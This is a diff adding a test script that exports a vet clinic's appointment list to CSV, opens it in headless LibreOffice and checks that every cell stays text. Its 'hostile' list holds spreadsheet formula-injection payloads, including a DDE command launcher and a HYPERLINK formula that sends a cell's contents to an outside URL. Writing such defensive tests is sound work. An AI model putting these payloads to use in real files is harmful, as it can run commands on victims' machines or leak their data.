@@ -1,0 +1,234 @@
+// Opens the staff list's export with a real LibreOffice, as people do, and compares every cell with what was typed:
+// `npm run test:spreadsheet`. Takes a LibreOffice that is there, or Debian's package (as root). With `--optional`, as in
+// `npm test`, it says aloud that it was left out where there is none, and fetches one in CI only: it is big.
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { parseArgs } from 'node:util';
+import { runnerImport } from 'vite';
+
+/** @typedef {import('../src/domain/types.ts').Appointment} Appointment */
+/** @typedef {{ text: string, type: string, formula: string | undefined }} Cell */
+
+/** @type {{ module: typeof import('../src/domain/csv.ts') }} */
+const { module: csv } = await runnerImport('./src/domain/csv.ts');
+
+/** @type {Appointment} */
+const plain = {
+  id: '7',
+  name: 'Asha Rao',
+  mobile_number: '9876543210',
+  email: 'asha@example.com',
+  appointment_type: 'Surgery',
+  pet_type: 'Cat',
+  location_name: 'Indiranagar',
+  store_manager_number: '08012345678',
+  appointment_date: '2026-03-07',
+  appointment_time: '10:30',
+  comments: 'Limping, "left" front paw; since Saturday.',
+};
+
+/** What may run where a spreadsheet takes it for a formula; each must stand there guarded by an apostrophe. */
+const hostile = [
+  '=1+1',
+  '=HYPERLINK("https://example.com/?x="&A2,"Click")',
+  '=WEBSERVICE("https://example.com/")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-1+1',
+  '@SUM(1,1)',
+  '  =1+1',
+  '\u00A0=1+1',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '=1+1\nand a second line',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  '\u200B=1+1',
+  '-',
+  '+91 98765 43210',
+];
+
+/** What no spreadsheet may change. */
+const harmless = [
+  'மீனாட்சி தலை வலி',
+  'बिल्ली को बुख़ार है',
+  'ಬೆಕ್ಕು ಊಟ ಮಾಡುತ್ತಿಲ್ಲ',
+  'కుక్కకు జ్వరం',
+  'പൂച്ച',
+  'বিড়াল',
+  'ਕੁੱਤਾ',
+  'બિલાડી',
+  'قطہ',
+  '👩🏽‍⚕️🐈',
+  'a "quoted" word, a comma; a semicolon',
+  'two\nlines',
+  'two\r\nlines',
+  "'already quoted",
+  'ends with a space ',
+  '1+1',
+  'a\tb',
+  '<b>&amp;</b>',
+];
+
+/** Text that a spreadsheet makes numbers, days and hours of, unless it is told that what is quoted is text. */
+const likeNumbers = ['0801234567', '1E5', 'TRUE', '3/4', '00:05', '2026-03-07', '１２'];
+
+const texts = [...hostile, ...harmless, ...likeNumbers];
+const records = [plain, ...texts.map((text) => ({ ...plain, name: text, comments: text }))];
+
+/** Exit status of a check that was left out. */
+const leftOut = 77;
+
+function apt(/** @type {string[]} */ ...args) {
+  const { status } = spawnSync('apt-get', args, {
+    stdio: ['ignore', 2, 2],
+    env: { ...process.env, DEBIAN_FRONTEND: 'noninteractive' },
+  });
+  return status === 0;
+}
+
+function findOffice() {
+  const places = (process.env.PATH ?? '').split(':');
+  const find = () =>
+    places
+      .flatMap((place) => [join(place, 'soffice'), join(place, 'libreoffice')])
+      .find((path) => existsSync(path));
+  const found = find();
+  if (found) return found;
+  const mayFetch = process.getuid?.() === 0 && (!optional || process.env.CI);
+  if (!mayFetch || !existsSync('/usr/bin/apt-get')) return undefined;
+  apt('update');
+  apt('install', '-y', '--no-install-recommends', 'libreoffice-calc-nogui');
+  return find();
+}
+
+/** How the file may be opened. The options are those of LibreOffice's CSV filter; its 7th is 'quoted field as text', its 13th 'evaluate formulas'. */
+const ways = {
+  // The window reads UTF-8 from the byte-order mark; without a window it must be said (76).
+  'as it opens by itself': '44,34,76',
+  'told that what is quoted is text': '44,34,76,1,,0,true,true,false,false,false,-1',
+  'told to run formulas': '44,34,76,1,,0,false,true,false,false,false,-1,true',
+};
+
+/** Opens a CSV and gives LibreOffice's own cells, without the row of headings. */
+function open(/** @type {string} */ text, /** @type {string} */ options) {
+  writeFileSync(join(work, csv.csvFileName), text);
+  const { status, stderr } = spawnSync(
+    office ?? '',
+    [
+      `-env:UserInstallation=${pathToFileURL(join(work, 'profile')).href}`,
+      '--headless',
+      `--infilter=CSV:${options}`,
+      '--convert-to',
+      'fods',
+      '--outdir',
+      work,
+      join(work, csv.csvFileName),
+    ],
+    { encoding: 'utf8', timeout: 180_000 },
+  );
+  if (status !== 0) throw new Error(`LibreOffice did not open the file: ${stderr}`);
+  return cellsOf(readFileSync(join(work, 'appointments.fods'), 'utf8')).slice(1);
+}
+
+/** @returns {Cell[][]} the rows of a flat OpenDocument spreadsheet */
+function cellsOf(/** @type {string} */ fods) {
+  const table = /<table:table [^]*?<\/table:table>/.exec(fods)?.[0] ?? '';
+  return [...table.matchAll(/<table:table-row[^>]*>([^]*?)<\/table:table-row>/g)].map(
+    ([, row = '']) =>
+      [...row.matchAll(/<table:table-cell([^>]*?)(?:\/>|>([^]*?)<\/table:table-cell>)/g)].flatMap(
+        ([, marks = '', inside = '']) => {
+          const mark = (/** @type {string} */ name) =>
+            new RegExp(` ${name}="([^"]*)"`).exec(marks)?.[1];
+          const cell = {
+            text: textOf(inside),
+            type: mark('office:value-type') ?? '',
+            formula: mark('table:formula'),
+          };
+          // The last of a row stands for all the empty ones after it.
+          return Array.from(
+            { length: Math.min(20, Number(mark('table:number-columns-repeated') ?? 1)) },
+            () => cell,
+          );
+        },
+      ),
+  );
+}
+
+function textOf(/** @type {string} */ markup) {
+  return [...markup.matchAll(/<text:p(?:\/>|[^>]*>([^]*?)<\/text:p>)/g)]
+    .map(([, text = '']) =>
+      text
+        .replace(/<text:s(?: text:c="(\d+)")?\/>/g, (_, count) => ' '.repeat(Number(count ?? 1)))
+        .replaceAll('<text:tab/>', '\t')
+        .replaceAll('<text:line-break/>', '\n')
+        .replace(/<[^>]+>/g, '')
+        .replaceAll('&lt;', '<')
+        .replaceAll('&gt;', '>')
+        .replaceAll('&quot;', '"')
+        .replaceAll('&apos;', "'")
+        .replaceAll('&amp;', '&'),
+    )
+    .join('\n');
+}
+
+/** A spreadsheet knows one kind of line end; a guarded text has its apostrophe. */
+function asTyped(/** @type {string} */ text) {
+  return (hostile.includes(text) ? `'${text}` : text).replace(/\r\n?/g, '\n');
+}
+
+/** @returns {string} what became of the telephone numbers, for whoever reads along */
+function check(/** @type {keyof typeof ways} */ way) {
+  const rows = open(csv.appointmentsCsv(records), ways[way]);
+  assert.equal(rows.length, records.length, 'one row for each request');
+  const formulas = rows.flat().filter(({ formula }) => formula !== undefined);
+  assert.deepEqual(formulas, [], 'no cell runs');
+  const allText = way === 'told that what is quoted is text';
+  texts.forEach((text, index) => {
+    if (likeNumbers.includes(text) && !allText) return;
+    for (const column of [1, 10]) {
+      const { text: found, type } = rows[index + 1]?.[column] ?? {};
+      assert.deepEqual({ found, type }, { found: asTyped(text), type: 'string' });
+    }
+  });
+  const first = (rows[0] ?? []).slice(0, 11);
+  if (allText) {
+    assert.deepEqual(
+      first,
+      Object.values(plain).map((text) => ({ text, type: 'string', formula: undefined })),
+    );
+  }
+  const [mobile, manager, date] = [first[2], first[7], first[8]];
+  assert.equal(mobile?.text, plain.mobile_number, 'ten digits are shown in full');
+  assert.match(manager?.text ?? '', /^0?8012345678$/);
+  assert.equal(date?.text, plain.appointment_date);
+  return `mobile ${mobile?.text} (${mobile?.type}), 08012345678 is ${manager?.text} (${manager?.type}), day ${date?.text} (${date?.type})`;
+}
+
+const { optional } = parseArgs({ options: { optional: { type: 'boolean' } } }).values;
+const office = findOffice();
+const work = mkdtempSync(join(tmpdir(), 'vetbuddy-spreadsheet-'));
+try {
+  if (!office) {
+    console.warn('LEFT OUT: no LibreOffice here (Debian: apt-get install libreoffice-calc-nogui).');
+    process.exitCode = optional ? leftOut : 1;
+  } else {
+    // Without the guard it would run, or this check could not fail.
+    const [bare] = open('"Name"\r\n"=1+1"\r\n', ways['told to run formulas']);
+    assert.ok(bare?.[0]?.formula, 'a formula that nobody guards is seen');
+    for (const way of /** @type {(keyof typeof ways)[]} */ (Object.keys(ways))) {
+      console.log(
+        `✓ ${records.length} requests, ${way}: no formula, every text as typed; ${check(way)}`,
+      );
+    }
+  }
+} finally {
+  rmSync(work, { recursive: true });
+}
